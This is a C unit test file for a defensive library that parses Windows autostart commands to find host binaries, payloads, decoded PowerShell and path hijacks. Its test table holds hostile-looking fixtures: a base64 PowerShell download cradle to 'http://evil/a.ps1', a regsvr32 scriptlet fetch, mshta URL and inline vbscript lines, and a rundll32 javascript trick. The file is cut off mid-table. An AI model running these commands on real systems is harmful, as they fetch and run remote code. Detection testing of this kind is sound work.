/* Unit tests for cmdline: stored autostart commands resolved against a fake
 * image (a list of files matched case-insensitively, as the real probe does). */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include <kenshu/artifacts.h>
#include <kenshu/core.h>

/* ---- fake image ---- */

static const char *const base_files[] = {
	"/Windows/System32/svchost.exe",
	"/Windows/System32/rundll32.exe",
	"/Windows/System32/regsvr32.exe",
	"/Windows/System32/mshta.exe",
	"/Windows/System32/wscript.exe",
	"/Windows/System32/cscript.exe",
	"/Windows/System32/cmd.exe",
	"/Windows/System32/scrobj.dll",
	"/Windows/System32/shell32.dll",
	"/Windows/System32/userinit.exe",
	"/Windows/System32/drivers/tcpip.sys",
	"/Windows/System32/WindowsPowerShell/v1.0/powershell.exe",
	"/Windows/explorer.exe",
	"/Windows/regedit.exe",
	NULL,
};

struct image {
	const char *const *extra; /* NULL-terminated, may be NULL */
	unsigned probes;
	unsigned bad;             /* probes with a malformed path: must stay 0 */
};

static bool in_list(const char *const *l, const char *path)
{
	for (; l && *l; l++)
		if (strcasecmp(*l, path) == 0)
			return true;
	return false;
}

static int fake_exists(void *ctx, const char *path)
{
	struct image *im = ctx;

	im->probes++;
	if (path[0] != '/' || strchr(path, '\\') || strstr(path, "//"))
		im->bad++;
	return in_list(base_files, path) || in_list(im->extra, path);
}

static const struct cmd_env env_default[] = {
	{ "SystemRoot", "C:\\Windows" },
	{ "SystemDrive", "C:" },
	{ "windir", "C:\\Windows" },
	{ "ProgramData", "C:\\ProgramData" },
	{ "ProgramFiles", "C:\\Program Files" },
	{ "USERPROFILE", "C:\\Users\\山田" },
	{ "APPDATA", "C:\\Users\\山田\\AppData\\Roaming" },
	{ "Path", "%SystemRoot%\\system32;%SystemRoot%;%SystemRoot%\\System32\\Wbem;"
		  "%SYSTEMROOT%\\System32\\WindowsPowerShell\\v1.0\\" },
};

static const struct cmd_env env_d_drive[] = {
	{ "SystemRoot", "D:\\WINDOWS" },
	{ "SystemDrive", "D:" },
};

#define ENV(e) .env = e, .nenv = sizeof(e) / sizeof(e[0])

/* base64 of UTF-16LE "IEX (New-Object Net.WebClient).DownloadString('http://evil/a.ps1')" */
#define B64_IEX "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAvAGEALgBwAHMAMQAnACkA"
#define IEX_TEXT "IEX (New-Object Net.WebClient).DownloadString('http://evil/a.ps1')"
/* base64 of UTF-16LE "Start-Process calc" */
#define B64_CALC "UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAGMAYQBsAGMA"

#define PS_PATH "/Windows/System32/WindowsPowerShell/v1.0/powershell.exe"

struct tcase {
	const char *name;
	const char *cmd;
	const char *files[6];       /* extra files in the image */
	const struct cmd_env *env;  /* NULL: env_default */
	size_t nenv;
	const char *image_path;     /* NULL: expect NULL (so for every field below) */
	const char *arguments;      /* NULL: expect "" */
	const char *host;
	const char *payload;
	const char *payload_path;
	const char *decoded;
	const char *shadowed;
	unsigned flags;
};

static const struct tcase cases[] = {
	/* ---- paths ---- */
	{ .name = "expand SystemRoot, service with arguments",
	  .cmd = "%SystemRoot%\\system32\\svchost.exe -k netsvcs",
	  .image_path = "/Windows/system32/svchost.exe", .arguments = "-k netsvcs" },
	{ .name = "variable names are case-insensitive",
	  .cmd = "%WINDIR%\\regedit.exe", .image_path = "/Windows/regedit.exe" },
	{ .name = "\\SystemRoot\\ driver",
	  .cmd = "\\SystemRoot\\System32\\drivers\\vendorio.sys",
	  .files = { "/Windows/System32/drivers/vendorio.sys" },
	  .image_path = "/Windows/System32/drivers/vendorio.sys" },
	{ .name = "system32\\ relative driver ImagePath",
	  .cmd = "system32\\DRIVERS\\tcpip.sys", .image_path = "/Windows/system32/DRIVERS/tcpip.sys" },
	{ .name = "System32\\ relative service, not found",
	  .cmd = "System32\\vendorsvc.exe -service",
	  .image_path = "/Windows/System32/vendorsvc.exe", .arguments = "-service",
	  .flags = CMD_F_NOT_FOUND },
	{ .name = "\\??\\ prefix",
	  .cmd = "\\??\\C:\\Windows\\system32\\drivers\\evil.sys",
	  .files = { "/Windows/System32/drivers/evil.sys" },
	  .image_path = "/Windows/system32/drivers/evil.sys" },
	{ .name = "\\\\?\\ prefix",
	  .cmd = "\\\\?\\C:\\Tools\\agent.exe", .files = { "/Tools/agent.exe" },
	  .image_path = "/Tools/agent.exe" },
	{ .name = "quoted Program Files",
	  .cmd = "\"C:\\Program Files\\Vendor\\HMI\\hmi.exe\" /autostart",
	  .files = { "/Program Files/Vendor/HMI/hmi.exe" },
	  .image_path = "/Program Files/Vendor/HMI/hmi.exe", .arguments = "/autostart" },
	{ .name = "unquoted Program Files",
	  .cmd = "C:\\Program Files\\Vendor\\HMI\\hmi.exe /autostart",
	  .files = { "/Program Files/Vendor/HMI/hmi.exe" },
	  .image_path = "/Program Files/Vendor/HMI/hmi.exe", .arguments = "/autostart" },
	{ .name = "unquoted Program Files with planted C:\\Program.exe",
	  .cmd = "C:\\Program Files\\Vendor\\HMI\\hmi.exe /autostart",
	  .files = { "/Program Files/Vendor/HMI/hmi.exe", "/Program.exe" },
	  .image_path = "/Program.exe", .arguments = "Files\\Vendor\\HMI\\hmi.exe /autostart",
	  .shadowed = "/Program Files/Vendor/HMI/hmi.exe", .flags = CMD_F_SPACE_HIJACK },
	{ .name = "planted prefix deeper in the path",
	  .cmd = "C:\\Program Files\\Vendor App\\bin\\svc.exe",
	  .files = { "/Program Files/Vendor App/bin/svc.exe", "/Program Files/Vendor.exe" },
	  .image_path = "/Program Files/Vendor.exe", .arguments = "App\\bin\\svc.exe",
	  .shadowed = "/Program Files/Vendor App/bin/svc.exe", .flags = CMD_F_SPACE_HIJACK },
	{ .name = "unquoted, nothing exists: first program-like prefix",
	  .cmd = "C:\\Program Files\\Vendor\\HMI\\hmi.exe /autostart",
	  .image_path = "/Program Files/Vendor/HMI/hmi.exe", .arguments = "/autostart",
	  .flags = CMD_F_NOT_FOUND },
	{ .name = "space in the file name",
	  .cmd = "C:\\Program Files\\My App.exe -x", .files = { "/Program Files/My App.exe" },
	  .image_path = "/Program Files/My App.exe", .arguments = "-x" },
	{ .name = ".exe appended (quoted)",
	  .cmd = "\"C:\\Program Files (x86)\\Vendor\\upd\"",
	  .files = { "/Program Files (x86)/Vendor/upd.exe" },
	  .image_path = "/Program Files (x86)/Vendor/upd.exe" },
	{ .name = ".exe appended (unquoted)",
	  .cmd = "C:\\Tools\\agent -x", .files = { "/Tools/agent.exe" },
	  .image_path = "/Tools/agent.exe", .arguments = "-x" },
	{ .name = "bare name in System32",
	  .cmd = "svchost.exe -k LocalService",
	  .image_path = "/Windows/System32/svchost.exe", .arguments = "-k LocalService" },
	{ .name = "bare name in SystemRoot",
	  .cmd = "explorer.exe", .image_path = "/Windows/explorer.exe" },
	{ .name = "bare name nowhere",
	  .cmd = "vendortray.exe /min", .arguments = "/min", .flags = CMD_F_NOT_FOUND },
	{ .name = "dot-dot folded, forward slashes",
	  .cmd = "C:/Windows/System32/../../Temp/b.exe", .files = { "/Temp/b.exe" },
	  .image_path = "/Temp/b.exe" },
	{ .name = "other drive letter",
	  .cmd = "D:\\Tools\\agent.exe -q", .arguments = "-q", .flags = CMD_F_NOT_LOCAL },
	{ .name = "UNC",
	  .cmd = "\\\\fileserver\\share\\agent.exe /q", .arguments = "/q", .flags = CMD_F_NOT_LOCAL },
	{ .name = "SystemDrive D: from env",
	  .cmd = "D:\\WINDOWS\\system32\\userinit.exe", ENV(env_d_drive),
	  .image_path = "/WINDOWS/system32/userinit.exe" },
	{ .name = "C: is not local when SystemDrive is D:",
	  .cmd = "C:\\x.exe", ENV(env_d_drive), .flags = CMD_F_NOT_LOCAL },
	{ .name = "Japanese path through %USERPROFILE%",
	  .cmd = "\"%USERPROFILE%\\AppData\\Roaming\\更新\\アップデート.exe\" --silent",
	  .files = { "/Users/山田/AppData/Roaming/更新/アップデート.exe" },
	  .image_path = "/Users/山田/AppData/Roaming/更新/アップデート.exe", .arguments = "--silent" },
	{ .name = "missing variable",
	  .cmd = "%VENDOR_HOME%\\bin\\agent.exe -d", .arguments = "-d",
	  .flags = CMD_F_UNRESOLVED_VAR | CMD_F_NOT_FOUND },
	{ .name = "unterminated quote",
	  .cmd = "\"C:\\Program Files\\Vendor\\HMI\\hmi.exe /autostart",
	  .files = { "/Program Files/Vendor/HMI/hmi.exe" },
	  .image_path = "/Program Files/Vendor/HMI/hmi.exe /autostart",
	  .flags = CMD_F_BAD_QUOTE | CMD_F_NOT_FOUND },

	/* ---- hosts ---- */
	{ .name = "rundll32 DLL,Entry",
	  .cmd = "rundll32.exe C:\\Users\\Public\\x.dll,Start", .files = { "/Users/Public/x.dll" },
	  .image_path = "/Windows/System32/rundll32.exe", .arguments = "C:\\Users\\Public\\x.dll,Start",
	  .host = "rundll32.exe", .payload = "C:\\Users\\Public\\x.dll",
	  .payload_path = "/Users/Public/x.dll" },
	{ .name = "rundll32 quoted DLL with spaces",
	  .cmd = "%SystemRoot%\\System32\\RUNDLL32.EXE \"C:\\Program Files\\Vendor\\hook.dll\",Install",
	  .files = { "/Program Files/Vendor/hook.dll" },
	  .image_path = "/Windows/System32/RUNDLL32.EXE",
	  .arguments = "\"C:\\Program Files\\Vendor\\hook.dll\",Install",
	  .host = "rundll32.exe", .payload = "C:\\Program Files\\Vendor\\hook.dll",
	  .payload_path = "/Program Files/Vendor/hook.dll" },
	{ .name = "rundll32 bare DLL without extension",
	  .cmd = "rundll32 shell32,Control_RunDLL desk.cpl",
	  .image_path = "/Windows/System32/rundll32.exe", .arguments = "shell32,Control_RunDLL desk.cpl",
	  .host = "rundll32.exe", .payload = "shell32", .payload_path = "/Windows/System32/shell32.dll" },
	{ .name = "rundll32 javascript (Poweliks)",
	  .cmd = "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
	  .image_path = "/Windows/System32/rundll32.exe",
	  .arguments = "javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
	  .host = "rundll32.exe", .payload = "javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
	  .flags = CMD_F_SCRIPT | CMD_F_INLINE },
	{ .name = "rundll32 DLL on a share",
	  .cmd = "rundll32.exe \\\\evil\\s\\x.dll,Go",
	  .image_path = "/Windows/System32/rundll32.exe", .arguments = "\\\\evil\\s\\x.dll,Go",
	  .host = "rundll32.exe", .payload = "\\\\evil\\s\\x.dll", .flags = CMD_F_NOT_LOCAL },
	{ .name = "regsvr32 squiblydoo",
	  .cmd = "regsvr32 /s /n /u /i:http://evil/x.sct scrobj.dll",
	  .image_path = "/Windows/System32/regsvr32.exe", .arguments = "/s /n /u /i:http://evil/x.sct scrobj.dll",
	  .host = "regsvr32.exe", .payload = "http://evil/x.sct", .flags = CMD_F_URL },
	{ .name = "regsvr32 local scriptlet",
	  .cmd = "regsvr32.exe /s /i:C:\\ProgramData\\x.sct scrobj.dll", .files = { "/ProgramData/x.sct" },
	  .image_path = "/Windows/System32/regsvr32.exe", .arguments = "/s /i:C:\\ProgramData\\x.sct scrobj.dll",
	  .host = "regsvr32.exe", .payload = "C:\\ProgramData\\x.sct", .payload_path = "/ProgramData/x.sct",
	  .flags = CMD_F_SCRIPT },
	{ .name = "regsvr32 DLL",
	  .cmd = "regsvr32 /s C:\\Users\\Public\\evil.dll",
	  .image_path = "/Windows/System32/regsvr32.exe", .arguments = "/s C:\\Users\\Public\\evil.dll",
	  .host = "regsvr32.exe", .payload = "C:\\Users\\Public\\evil.dll",
	  .payload_path = "/Users/Public/evil.dll", .flags = CMD_F_PAYLOAD_NOT_FOUND },
	{ .name = "mshta URL",
	  .cmd = "mshta http://evil/x.hta",
	  .image_path = "/Windows/System32/mshta.exe", .arguments = "http://evil/x.hta",
	  .host = "mshta.exe", .payload = "http://evil/x.hta", .flags = CMD_F_URL },
	{ .name = "mshta vbscript inline",
	  .cmd = "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)",
	  .image_path = "/Windows/System32/mshta.exe",
	  .arguments = "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)",
	  .host = "mshta.exe",
	  .payload = "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)",
	  .flags = CMD_F_SCRIPT | CMD_F_INLINE },
	{ .name = "mshta local .hta",
	  .cmd = "mshta.exe \"C:\\ProgramData\\x.hta\"", .files = { "/ProgramData/x.hta" },
	  .image_path = "/Windows/System32/mshta.exe", .arguments = "\"C:\\ProgramData\\x.hta\"",
	  .host = "mshta.exe", .payload = "C:\\ProgramData\\x.hta", .payload_path = "/ProgramData/x.hta",
	  .flags = CMD_F_SCRIPT },
	{ .name = "wscript //B script",
	  .cmd = "wscript.exe //B C:\\ProgramData\\x.vbs", .files = { "/ProgramData/x.vbs" },
	  .image_path = "/Windows/System32/wscript.exe", .arguments = "//B C:\\ProgramData\\x.vbs",
	  .host = "wscript.exe", .payload = "C:\\ProgramData\\x.vbs", .payload_path = "/ProgramData/x.vbs",
	  .flags = CMD_F_SCRIPT },
	{ .name = "cscript options and quoted script with spaces",
	  .cmd = "cscript //nologo //e:jscript \"%ProgramData%\\a b.js\" arg1",
	  .files = { "/ProgramData/a b.js" },
	  .image_path = "/Windows/System32/cscript.exe",
	  .arguments = "//nologo //e:jscript \"C:\\ProgramData\\a b.js\" arg1",
	  .host = "cscript.exe", .payload = "C:\\ProgramData\\a b.js", .payload_path = "/ProgramData/a b.js",
	  .flags = CMD_F_SCRIPT },
	{ .name = "cmd /c start /b",
	  .cmd = "cmd /c start /b C:\\Temp\\a.exe", .files = { "/Temp/a.exe" },
	  .image_path = "/Windows/System32/cmd.exe", .arguments = "/c start /b C:\\Temp\\a.exe",
	  .host = "cmd.exe", .payload = "start /b C:\\Temp\\a.exe", .payload_path = "/Temp/a.exe" },
	{ .name = "cmd /c keeps two quotes around a path with a blank",
	  .cmd = "cmd.exe /c \"C:\\Temp\\run me.bat\"", .files = { "/Temp/run me.bat" },
	  .image_path = "/Windows/System32/cmd.exe", .arguments = "/c \"C:\\Temp\\run me.bat\"",
	  .host = "cmd.exe", .payload = "\"C:\\Temp\\run me.bat\"", .payload_path = "/Temp/run me.bat" },
	{ .name = "cmd /q /c strips outer quotes, start title",
	  .cmd = "cmd.exe /q /c \"start \"\" \"C:\\Users\\Public\\x.exe\"\"", .files = { "/Users/Public/x.exe" },
	  .image_path = "/Windows/System32/cmd.exe",
	  .arguments = "/q /c \"start \"\" \"C:\\Users\\Public\\x.exe\"\"",
	  .host = "cmd.exe", .payload = "start \"\" \"C:\\Users\\Public\\x.exe\"",
	  .payload_path = "/Users/Public/x.exe" },
	{ .name = "cmd /c chain: first command only",
	  .cmd = "cmd /c C:\\Temp\\a.exe & del C:\\Temp\\a.exe", .files = { "/Temp/a.exe" },
	  .image_path = "/Windows/System32/cmd.exe", .arguments = "/c C:\\Temp\\a.exe & del C:\\Temp\\a.exe",
	  .host = "cmd.exe", .payload = "C:\\Temp\\a.exe & del C:\\Temp\\a.exe",
	  .payload_path = "/Temp/a.exe" },
	{ .name = "cmd /c with a missing variable",
	  .cmd = "%SystemRoot%\\System32\\cmd.exe /c %TEMP%\\x.bat",
	  .image_path = "/Windows/System32/cmd.exe", .arguments = "/c %TEMP%\\x.bat",
	  .host = "cmd.exe", .payload = "%TEMP%\\x.bat",
	  .flags = CMD_F_UNRESOLVED_VAR | CMD_F_PAYLOAD_NOT_FOUND },
	{ .name = "cmd /c powershell -enc: decoded lifted",
	  .cmd = "cmd /c powershell -enc " B64_CALC,
	  .image_path = "/Windows/System32/cmd.exe", .arguments = "/c powershell -enc " B64_CALC,
	  .host = "cmd.exe", .payload = "powershell -enc " B64_CALC, .payload_path = PS_PATH,
	  .decoded = "Start-Process calc", .flags = CMD_F_ENCODED },
	{ .name = "powershell -nop -w hidden -enc",
	  .cmd = "powershell -nop -w hidden -enc " B64_IEX,
	  .image_path = PS_PATH, .arguments = "-nop -w hidden -enc " B64_IEX,
	  .host = "powershell.exe", .payload = B64_IEX, .decoded = IEX_TEXT,
	  .flags = CMD_F_ENCODED | CMD_F_URL },
	{ .name = "powershell -EnCodedCommand mixed case",
	  .cmd = "POWERSHELL.EXE -NoP -EnCodedCommand " B64_CALC,
	  /* the searched-for part keeps the case as written, too */
	  .image_path = "/Windows/System32/WindowsPowerShell/v1.0/POWERSHELL.EXE",
	  .arguments = "-NoP -EnCodedCommand " B64_CALC,
	  .host = "powershell.exe", .payload = B64_CALC, .decoded = "Start-Process calc",
	  .flags = CMD_F_ENCODED },
	{ .name = "powershell -ec, -e and -EncodedC prefix",
	  .cmd = "powershell -ec " B64_CALC,
	  .image_path = PS_PATH, .arguments = "-ec " B64_CALC,
	  .host = "powershell.exe", .payload = B64_CALC, .decoded = "Start-Process calc",
	  .flags = CMD_F_ENCODED },
	{ .name = "powershell /e with an en dash elsewhere",
	  .cmd = "powershell \xe2\x80\x93" "ExecutionPolicy Bypass /e " B64_CALC,
	  .image_path = PS_PATH, .arguments = "\xe2\x80\x93" "ExecutionPolicy Bypass /e " B64_CALC,
	  .host = "powershell.exe", .payload = B64_CALC, .decoded = "Start-Process calc",
	  .flags = CMD_F_ENCODED },
	{ .name = "powershell -enc not base64",
	  .cmd = "powershell -enc !!notbase64!!",
	  .image_path = PS_PATH, .arguments = "-enc !!notbase64!!",
	  .host = "powershell.exe", .payload = "!!notbase64!!",
	  .flags = CMD_F_ENCODED | CMD_F_BAD_ENCODING },
	{ .name = "powershell -File",
	  .cmd = "powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\s.ps1 -x",
	  .files = { "/ProgramData/s.ps1" },
	  .image_path = PS_PATH, .arguments = "-ExecutionPolicy Bypass -File C:\\ProgramData\\s.ps1 -x",
	  .host = "powershell.exe", .payload = "C:\\ProgramData\\s.ps1", .payload_path = "/ProgramData/s.ps1",
	  .flags = CMD_F_SCRIPT },
	{ .name = "powershell -Command",
	  .cmd = "powershell.exe -NoProfile -Command \"Get-Process; iwr http://evil/x\"",
	  .image_path = PS_PATH, .arguments = "-NoProfile -Command \"Get-Process; iwr http://evil/x\"",
	  .host = "powershell.exe", .payload = "\"Get-Process; iwr http://evil/x\"",
	  .flags = CMD_F_INLINE | CMD_F_URL },
	{ .name = "powershell positional is a command",
	  .cmd = "powershell -w hidden IEX (gc C:\\x.txt)",
	  .image_path = PS_PATH, .arguments = "-w hidden IEX (gc C:\\x.txt)",
	  .host = "powershell.exe", .payload = "IEX (gc C:\\x.txt)", .flags = CMD_F_INLINE },
	{ .name = "pwsh positional is a file",
	  .cmd = "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -nop C:\\ProgramData\\s.ps1",
	  .files = { "/Program Files/PowerShell/7/pwsh.exe", "/ProgramData/s.ps1" },
	  .image_path = "/Program Files/PowerShell/7/pwsh.exe", .arguments = "-nop C:\\ProgramData\\s.ps1",
	  .host = "pwsh.exe", .payload = "C:\\ProgramData\\s.ps1", .payload_path = "/ProgramData/s.ps1",
	  .flags = CMD_F_SCRIPT },
	{ .name = "host masquerading outside System32 is still unwrapped",
	  .cmd = "C:\\Users\\Public\\mshta.exe http://evil/y", .files = { "/Users/Public/mshta.exe" },
	  .image_path = "/Users/Public/mshta.exe", .arguments = "http://evil/y",
	  .host = "mshta.exe", .payload = "http://evil/y", .flags = CMD_F_URL },
};

/* Reports a mismatch and counts it, so one run lists every failing case. */
static unsigned expect_str(const char *what, const char *name, const char *want, const char *got)
{
	if (want == NULL && got == NULL)
		return 0;
	if (want == NULL || got == NULL || strcmp(want, got) != 0) {
		print_error("case '%s': %s: want '%s', got '%s'\n", name, what,
			    want ? want : "(null)", got ? got : "(null)");
		return 1;
	}
	return 0;
}

static unsigned run_case(const struct tcase *tc)
{
	unsigned bad = 0;
	struct image im = { .extra = tc->files };
	struct cmd_resolution r;
	const struct cmd_env *env = tc->env ? tc->env : env_default;
	size_t nenv = tc->env ? tc->nenv : sizeof(env_default) / sizeof(env_default[0]);

	assert_int_equal(cmd_resolve(tc->cmd, env, nenv, fake_exists, &im, &r), 0);
	bad += expect_str("image_path", tc->name, tc->image_path, r.image_path);
	bad += expect_str("arguments", tc->name, tc->arguments ? tc->arguments : "", r.arguments);
	bad += expect_str("host", tc->name, tc->host, r.host);
	bad += expect_str("payload", tc->name, tc->payload, r.payload);
	bad += expect_str("payload_path", tc->name, tc->payload_path, r.payload_path);
	bad += expect_str("decoded", tc->name, tc->decoded, r.decoded);
	bad += expect_str("shadowed", tc->name, tc->shadowed, r.shadowed);
	if (r.flags != tc->flags) {
		print_error("case '%s': flags: want 0x%x, got 0x%x\n", tc->name, tc->flags, r.flags);
		bad++;
	}
	assert_non_null(r.expanded);
	assert_int_equal(im.bad, 0);
	assert_true(im.probes <= CMD_MAX_PROBES);
	cmd_resolution_release(&r);
	assert_null(r.expanded);
	return bad;
}

static void test_table(void **state)
{
	unsigned bad = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		bad += run_case(&cases[i]);
	assert_int_equal(bad, 0);
}

static int resolve_default(const char *cmd, struct image *im, struct cmd_resolution *r)
{
	return cmd_resolve(cmd, env_default, sizeof(env_default) / sizeof(env_default[0]),
			   fake_exists, im, r);
}

static void test_empty(void **state)
{
	struct image im = { 0 };
	struct cmd_resolution r;

	(void)state;
	assert_int_equal(resolve_default("", &im, &r), -1);
	assert_null(r.expanded);
	assert_int_equal(resolve_default(" \t \r\n", &im, &r), -1);
	assert_int_equal(cmd_resolve(NULL, NULL, 0, fake_exists, &im, &r), -1);
	assert_int_equal(cmd_resolve("x.exe", NULL, 0, fake_exists, NULL, NULL), -1);
	assert_int_equal(im.probes, 0);
	/* releasing a zeroed result, twice */
	cmd_resolution_release(&r);
	cmd_resolution_release(&r);
	cmd_resolution_release(NULL);
}

static void test_expanded_and_env(void **state)
{
	struct image im = { 0 };
	struct cmd_resolution r;
	static const struct cmd_env env[] = { { "A", "x" }, { NULL, "y" }, { "B", NULL } };

	(void)state;
	/* the host's environment is never read */
	setenv("KENSHU_TEST_VAR", "C:\\Windows", 1);
	assert_int_equal(resolve_default("%KENSHU_TEST_VAR%\\regedit.exe", &im, &r), 0);
	assert_string_equal(r.expanded, "%KENSHU_TEST_VAR%\\regedit.exe");
	assert_true(r.flags & CMD_F_UNRESOLVED_VAR);
	cmd_resolution_release(&r);

	/* values are not expanded twice; a stray % is text; %% stays */
	assert_int_equal(cmd_resolve("  %A%%%B%%A% 100% %C D%  ", env, 3, fake_exists, &im, &r), 0);
	assert_string_equal(r.expanded, "x%%B%x 100% %C D%");
	assert_true(r.flags & CMD_F_UNRESOLVED_VAR); /* B has no value */
	cmd_resolution_release(&r);

	assert_int_equal(cmd_resolve("50% done", env, 3, fake_exists, &im, &r), 0);
	assert_false(r.flags & CMD_F_UNRESOLVED_VAR);
	cmd_resolution_release(&r);

	/* no env at all: defaults C: and \Windows */
	assert_int_equal(cmd_resolve("\\SystemRoot\\explorer.exe", NULL, 0, fake_exists, &im, &r), 0);
	assert_string_equal(r.image_path, "/Windows/explorer.exe");
	cmd_resolution_release(&r);

	/* no probe at all: nothing exists */
	assert_int_equal(cmd_resolve("C:\\a.exe", NULL, 0, NULL, NULL, &r), 0);
	assert_string_equal(r.image_path, "/a.exe");
	assert_int_equal(r.flags, CMD_F_NOT_FOUND);
	cmd_resolution_release(&r);
}

static void test_inner(void **state)
{
	struct image im = { 0 };
	struct cmd_resolution r;

	(void)state;
	assert_int_equal(resolve_default("cmd /c start http://evil/x", &im, &r), 0);
	assert_non_null(r.inner);
	assert_string_equal(r.inner->payload, "http://evil/x");
	assert_true(r.flags & CMD_F_URL);
	assert_null(r.payload_path);
	cmd_resolution_release(&r);

	assert_int_equal(resolve_default("cmd /c powershell -File C:\\x.ps1", &im, &r), 0);
	assert_non_null(r.inner);
	assert_string_equal(r.inner->host, "powershell.exe");
	assert_string_equal(r.inner->payload_path, "/x.ps1");
	assert_string_equal(r.payload_path, PS_PATH);
	assert_int_equal(r.flags, CMD_F_SCRIPT | CMD_F_PAYLOAD_NOT_FOUND);
	cmd_resolution_release(&r);
}

static void test_depth(void **state)
{
	struct image im = { 0 };
	struct cmd_resolution r;
	char cmd[1024] = "";
	size_t n = 0;

	(void)state;
	for (int i = 0; i < 20; i++)
		n += (size_t)snprintf(cmd + n, sizeof(cmd) - n, "cmd /c ");
	snprintf(cmd + n, sizeof(cmd) - n, "C:\\Temp\\a.exe");
	assert_int_equal(resolve_default(cmd, &im, &r), 0);
	assert_true(r.flags & CMD_F_DEPTH);
	assert_string_equal(r.host, "cmd.exe");
	cmd_resolution_release(&r);
}

static void test_long_input(void **state)
{
	size_t n = 100 * 1024;
	char *cmd = malloc(n + 1);
	struct image im = { 0 };
	struct cmd_resolution r;

	(void)state;
	assert_non_null(cmd);

	/* 100 KB path with blanks every few characters */
	memcpy(cmd, "C:\\", 3);
	for (size_t i = 3; i < n; i++)
		cmd[i] = i % 7 == 0 ? ' ' : (i % 13 == 0 ? '\\' : 'a');
	cmd[n] = '\0';
	assert_int_equal(resolve_default(cmd, &im, &r), 0);
	assert_true(r.flags & CMD_F_TRUNCATED);
	assert_true(im.probes <= CMD_MAX_PROBES);
	assert_int_equal(im.bad, 0);
	cmd_resolution_release(&r);

	/* 100 KB of one unquoted token (too long to probe) */
	memset(cmd, 'b', n);
	assert_int_equal(resolve_default(cmd, &im, &r), 0);
	assert_null(r.image_path);
	cmd_resolution_release(&r);

	/* 100 KB of percent signs and variables */
	for (size_t i = 0; i < n; i++)
		cmd[i] = "%SystemRoot%%X"[i % 14];
	assert_int_equal(resolve_default(cmd, &im, &r), 0);
	cmd_resolution_release(&r);

	/* unterminated quote over 100 KB, and powershell -enc of 100 KB */
	cmd[0] = '"';
	memset(cmd + 1, 'q', n - 1);
	assert_int_equal(resolve_default(cmd, &im, &r), 0);
	assert_true(r.flags & CMD_F_BAD_QUOTE);
	cmd_resolution_release(&r);

	memcpy(cmd, "powershell -enc ", 16);
	for (size_t i = 16; i < n; i++)
		cmd[i] = "QQBB"[i % 4];
	assert_int_equal(resolve_default(cmd, &im, &r), 0);
	assert_true(r.flags & CMD_F_ENCODED);
	assert_non_null(r.decoded);
	cmd_resolution_release(&r);
	free(cmd);
}

/* The encoder side of -EncodedCommand, to round-trip arbitrary text. */
static char *ps_encode(const char *utf8)
{
	static const char tab[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	uint16_t *u = NULL;
	long n = utf8_to_utf16le(utf8, &u);
	size_t len = (size_t)n * 2, o = 0;
	unsigned char *b;
	char *out;

	assert_true(n >= 0);
	b = malloc(len + 1);
	out = malloc(len / 3 * 4 + 8);
	assert_non_null(b);
	assert_non_null(out);
	for (long i = 0; i < n; i++) {
		b[2 * i] = (unsigned char)(u[i] & 0xFF);
		b[2 * i + 1] = (unsigned char)(u[i] >> 8);
	}
	for (size_t i = 0; i < len; i += 3) {
		uint32_t v = (uint32_t)b[i] << 16;

		if (i + 1 < len)
			v |= (uint32_t)b[i + 1] << 8;
		if (i + 2 < len)
			v |= b[i + 2];
		out[o++] = tab[(v >> 18) & 63];
		out[o++] = tab[(v >> 12) & 63];
		out[o++] = i + 1 < len ? tab[(v >> 6) & 63] : '=';
		out[o++] = i + 2 < len ? tab[v & 63] : '=';
	}
	out[o] = '\0';
	free(b);
	free(u);
	return out;
}

static void test_encoded_roundtrip(void **state)
{
	static const char *const texts[] = {
		"Write-Host 'こんにちは'", "a", "ab", "abc", "😀 emoji",
	};
	struct image im = { 0 };

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		char *b64 = ps_encode(texts[i]);
		char cmd[512];
		struct cmd_resolution r;

		snprintf(cmd, sizeof(cmd), "pwsh -EncodedCommand %s", b64);
		assert_int_equal(resolve_default(cmd, &im, &r), 0);
		assert_int_equal(r.flags & CMD_F_BAD_ENCODING, 0);
		assert_string_equal(r.decoded, texts[i]);
		cmd_resolution_release(&r);
		free(b64);
	}
}

/* A path stored in a setting, not a command: resolved, never searched. */
static void test_resolve_path(void **state)
{
	static const struct {
		const char *path;
		int rc;
		const char *img;      /* when rc is 1 */
		unsigned flags;
	} pcases[] = {
		{ "C:\\windows\\system32\\drivers\\etc", 1, "/windows/system32/drivers/etc", 0 },
		{ "%SystemRoot%\\System32\\drivers\\etc", 1, "/Windows/System32/drivers/etc", 0 },
		{ "%systemroot%\\system32\\DRIVERS\\ETC\\", 1, "/Windows/system32/DRIVERS/ETC", 0 },
		{ "  \"%windir%\\Temp\\\"  ", 1, "/Windows/Temp", 0 },
		{ "\\??\\C:\\Vendor\\etc", 1, "/Vendor/etc", 0 },
		{ "\\\\?\\c:\\Vendor\\..\\Vendor\\.\\etc", 1, "/Vendor/etc", 0 },
		{ "\\SystemRoot\\System32", 1, "/Windows/System32", 0 },
		{ "%SystemDrive%\\", 1, "/", 0 },
		{ "C:\\..\\..\\x", 1, "/x", 0 },
		{ "D:\\Windows\\System32\\drivers\\etc", 0, NULL, CMD_F_NOT_LOCAL },
		{ "\\\\server\\share\\etc", 0, NULL, CMD_F_NOT_LOCAL },
